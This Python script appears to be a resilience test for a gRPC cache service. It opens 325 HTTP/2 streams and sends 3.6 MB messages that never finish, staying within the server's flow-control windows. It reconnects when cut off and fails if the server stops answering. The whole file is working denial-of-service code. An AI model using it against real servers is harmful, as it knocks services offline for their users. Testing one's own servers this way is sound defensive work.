"""Messages of 3.6 MB of which the last byte never comes, 325 of them, as the window allows."""

import select
import struct
import sys
import time

import flood
from http2_connection import DATA, END_HEADERS, HEADERS, PREFACE, SETTINGS, connect, frame

MESSAGE = 3_600_000
STREAMS = 325
PIECE = 16_384
WINDOW_UPDATE = 8


class Sender:
    """One connection that obeys the server's windows, as gRPC counts against whoever does not."""

    def __init__(self, address, trusted):
        self.socket = connect(address, flood.SEND_S, trusted)
        self.window = 65_535
        self.first = 65_535
        self.streams = {}
        self.buffer = b""
        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0))
        block = flood.header_block("/ferrite.v1.CacheService/Set")
        for stream in range(1, 2 * STREAMS, 2):
            self.socket.sendall(frame(HEADERS, END_HEADERS, stream, block))
            self.streams[stream] = [self.first, 0]

    def send(self):
        """Sends what the windows allow. Returns how much."""
        total = 0
        for stream, state in self.streams.items():
            while (size := min(state[0], self.window, PIECE, MESSAGE - 1 - state[1])) > 0:
                content = b"v" * size if state[1] else (flood.message_head(MESSAGE) + b"v" * size)[:size]
                self.socket.sendall(frame(DATA, 0, stream, content))
                state[0] -= size
                state[1] += size
                self.window -= size
                total += size
        return total

    def receive(self, wait_s):
        if not select.select([self.socket], [], [], wait_s)[0]:
            return
        more = self.socket.recv(1 << 16)
        if not more:
            raise ConnectionResetError("the end")
        self.buffer += more
        while len(self.buffer) >= 9 and len(self.buffer) >= 9 + (size := int.from_bytes(self.buffer[:3], "big")):
            kind, flags, stream = struct.unpack(">BBI", self.buffer[3:9])
            payload, self.buffer = self.buffer[9 : 9 + size], self.buffer[9 + size :]
            if kind == WINDOW_UPDATE:
                (more_window,) = struct.unpack(">I", payload)
                if stream == 0:
                    self.window += more_window
                elif stream in self.streams:
                    self.streams[stream][0] += more_window
            elif kind == SETTINGS and not flags & 1:
                for at in range(0, size, 6):
                    name, value = struct.unpack(">HI", payload[at : at + 6])
                    if name == 4:  # the first window of streams
                        for state in self.streams.values():
                            state[0] += value - self.first
                        self.first = value
                self.socket.sendall(frame(SETTINGS, 1, 0))


def attack(address, seconds, trusted):
    deadline = time.monotonic() + seconds
    cuts = 0
    while time.monotonic() < deadline:
        try:
            sender = Sender(address, trusted)
            while time.monotonic() < deadline:
                sender.send()
                sender.receive(0.1)
        except OSError:
            cuts += 1
    return cuts


if __name__ == "__main__":
    arguments = flood.arguments()
    print("connections cut:", attack(arguments.address, arguments.seconds, arguments.ca))
    if not flood.serves(arguments.address, arguments.ca):
        sys.exit("the server does not answer any more")
